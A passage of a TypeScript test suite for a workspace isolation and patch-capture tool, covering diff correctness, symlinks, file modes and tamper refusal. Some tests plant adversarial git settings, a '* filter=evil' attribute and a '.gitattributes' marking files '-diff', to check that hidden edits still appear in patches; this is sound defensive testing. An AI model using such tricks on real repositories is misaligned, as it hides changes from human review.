      write(planted, 'info/attributes', '* filter=evil\n');
      const base = await Isolation.snapshotBase(ws);
      try {
        const copy = await base.createCopy('writer');
        fs.writeFileSync(path.join(copy.dir, '.git'), `gitdir: ${planted}\n`);
        write(copy.dir, 'src/app.ts', `${APP}${HIDDEN}`);
        const change = await copy.captureChange();
        assert.ok(hunksOf(change.patch, 'src/app.ts').includes(`+${HIDDEN}`), change.patch);
        assert.deepEqual(marksLeft(), []);
        await copy.dispose();
        assert.ok(!fs.existsSync(copy.dir));
      } finally {
        await base.dispose();
      }
    });

    it('shows the text of a change whose writer adds a .gitattributes that marks everything -diff', async () => {
      const ws = await repositoryWith('');
      const base = await Isolation.snapshotBase(ws);
      try {
        const copy = await base.createCopy('writer');
        write(copy.dir, '.gitattributes', '* -diff\n');
        write(copy.dir, 'src/app.ts', `${APP}${HIDDEN}`);
        const change = await copy.captureChange();
        assert.ok(!change.patch.includes('GIT binary patch'), change.patch);
        assert.ok(hunksOf(change.patch, '.gitattributes').includes('+* -diff\n'));
        assert.ok(hunksOf(change.patch, 'src/app.ts').includes(`+${HIDDEN}`));
        await applyChange(ws, change, base);
        assert.equal(read(ws, 'src/app.ts'), `${APP}${HIDDEN}`);
      } finally {
        await base.dispose();
      }
    });
  });

  describe('copy backend specifics', () => {
    it("writes a patch that git apply accepts and that reproduces the writer's files", async () => {
      const files: Record<string, string> = {
        'a.txt': numberedLines(1, 30),
        'b.txt': 'no newline at the end',
        'gone.txt': 'bye\n',
        'dir/keep.txt': 'keep\n',
      };
      const ws = newDir('plain');
      for (const [name, content] of Object.entries(files)) write(ws, name, content);
      const base = await Isolation.snapshotBase(ws, { backend: 'copy' });
      try {
        const copy = await base.createCopy('writer');
        write(
          copy.dir,
          'a.txt',
          numberedLines(1, 30).replace('line 3\n', '').replace('line 20\n', 'line twenty\n'),
        );
        write(copy.dir, 'b.txt', 'no newline at the end, still');
        write(copy.dir, 'new dir/with space.txt', 'fresh\n');
        fs.rmSync(path.join(copy.dir, 'gone.txt'));
        fs.chmodSync(path.join(copy.dir, 'dir/keep.txt'), 0o755);
        const change = await copy.captureChange();
        assert.ok(change.patch.includes('\\ No newline at end of file\n'));
        assert.ok(change.patch.includes('old mode 100644\nnew mode 100755\n'));

        const check = newDir('check');
        for (const [name, content] of Object.entries(files)) write(check, name, content);
        await git(check, 'init', '-q');
        const result = await runProcess({
          command: 'git',
          args: ['apply', '--whitespace=nowarn'],
          cwd: check,
          env: { set: { GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: globalConfig } },
          stdin: change.patch,
          timeoutMs: 30_000,
        });
        assert.equal(result.exitCode, 0, result.stderr.text);
        assert.deepEqual(readTree(check), readTree(copy.dir));
        assert.ok(
          (fs.statSync(path.join(check, 'dir/keep.txt')).mode & 0o100) !== 0,
          'the mode change applies',
        );
      } finally {
        await base.dispose();
      }
    });

    it('applies symlinks and mode changes, and removes emptied folders like git', async () => {
      const ws = newDir('plain');
      write(ws, 'tool.sh', '#!/bin/sh\n');
      write(ws, 'only/child.txt', 'x\n');
      fs.symlinkSync('tool.sh', path.join(ws, 'link'));
      const base = await Isolation.snapshotBase(ws, { backend: 'copy' });
      try {
        const copy = await base.createCopy('writer');
        assert.equal(fs.readlinkSync(path.join(copy.dir, 'link')), 'tool.sh');
        fs.chmodSync(path.join(copy.dir, 'tool.sh'), 0o755);
        fs.rmSync(path.join(copy.dir, 'only'), { recursive: true });
        fs.rmSync(path.join(copy.dir, 'link'));
        fs.symlinkSync('only/child.txt', path.join(copy.dir, 'link'));
        const change = await copy.captureChange();
        assert.deepEqual(
          sortedFiles(change).map((file) => [file.path, file.change]),
          [
            ['link', 'modified'],
            ['only/child.txt', 'deleted'],
            ['tool.sh', 'modified'],
          ],
        );
        await applyChange(ws, change, base);
        assert.equal(fs.readlinkSync(path.join(ws, 'link')), 'only/child.txt');
        assert.ok((fs.statSync(path.join(ws, 'tool.sh')).mode & 0o100) !== 0);
        assert.ok(!fs.existsSync(path.join(ws, 'only')), 'the emptied folder is gone');
      } finally {
        await base.dispose();
      }
    });

    it('refuses to apply after the saved content was tampered with, changing nothing', async () => {
      const ws = newDir('plain');
      write(ws, 'a.txt', 'a\n');
      const base = await Isolation.snapshotBase(ws, { backend: 'copy' });
      try {
        const copy = await base.createCopy('writer');
        write(copy.dir, 'a.txt', 'b\n');
        write(copy.dir, 'new/b.txt', 'b\n');
        const change = await copy.captureChange();
        const saved = change.contents?.files.find((file) => file.path === 'new/b.txt');
        assert.ok(saved && change.contents);
        fs.writeFileSync(path.join(change.contents.dir, saved.file), 'evil\n');
        await assert.rejects(applyChange(ws, change, base), refusedWith('APPLY_FAILED'));
        assert.deepEqual([...readTree(ws).keys()], ['a.txt']);
        assert.equal(read(ws, 'a.txt'), 'a\n');
      } finally {
        await base.dispose();
      }
    });
  });

  describe('unifiedDiffHunks', () => {
    const line = fc.constantFrom('a', 'b', 'c', '', 'a b', 'ü');
    const text = fc
      .tuple(fc.array(line, { maxLength: 40 }), fc.boolean())
      .map(([lines, newlineAtEnd]) => lines.join('\n') + (newlineAtEnd && lines.length > 0 ? '\n' : ''));

    it('turns the old text into the new one when its hunks are applied', () => {
      fc.assert(
        fc.property(text, text, fc.integer({ min: 0, max: 4 }), (a, b, context) => {
          const diff = unifiedDiffHunks(a, b, { context });
          assert.equal(applyHunks(a, diff.hunks), b);
          const body = diff.hunks.split('\n');
          assert.equal(diff.insertions, body.filter((l) => l.startsWith('+')).length);
          assert.equal(diff.deletions, body.filter((l) => l.startsWith('-')).length);
          assert.equal(diff.hunks === '', a === b);
        }),
        { numRuns: 500 },
      );
    });

    it('stays correct, if not minimal, past the edit-distance guard', () => {
      fc.assert(
        fc.property(text, text, (a, b) => {
          assert.equal(applyHunks(a, unifiedDiffHunks(a, b, { maxEditDistance: 1 }).hunks), b);
        }),
        { numRuns: 300 },
      );
    });

    it('finds the minimal change and marks a last line without a newline', () => {
      assert.deepEqual(unifiedDiffHunks('a\nb\nc\n', 'a\nB\nc'), {
        hunks: '@@ -1,3 +1,3 @@\n a\n-b\n-c\n+B\n+c\n\\ No newline at end of file\n',
        insertions: 2,
        deletions: 2,
      });
      assert.equal(unifiedDiffHunks('', 'x\n').hunks, '@@ -0,0 +1 @@\n+x\n');
      assert.equal(unifiedDiffHunks('x\n', '').hunks, '@@ -1 +0,0 @@\n-x\n');
    });

    it('keeps distant changes in separate hunks with three lines of context', () => {
      const before = numberedLines(1, 20);
      const after = before.replace('line 2\n', 'two\n').replace('line 19\n', 'nineteen\n');
      const headers = unifiedDiffHunks(before, after).hunks.match(/^@@.*@@$/gm);
      assert.deepEqual(headers, ['@@ -1,5 +1,5 @@', '@@ -16,5 +16,5 @@']);
    });
  });

  describe('diffStatLine', () => {
    it('says how many files and lines changed', () => {
      assert.equal(diffStatLine({ files: 3, insertions: 12, deletions: 4 }), '3 files, +12 -4');
      assert.equal(diffStatLine({ files: 1, insertions: 1, deletions: 0 }), '1 file, +1 -0');
    });
  });
});
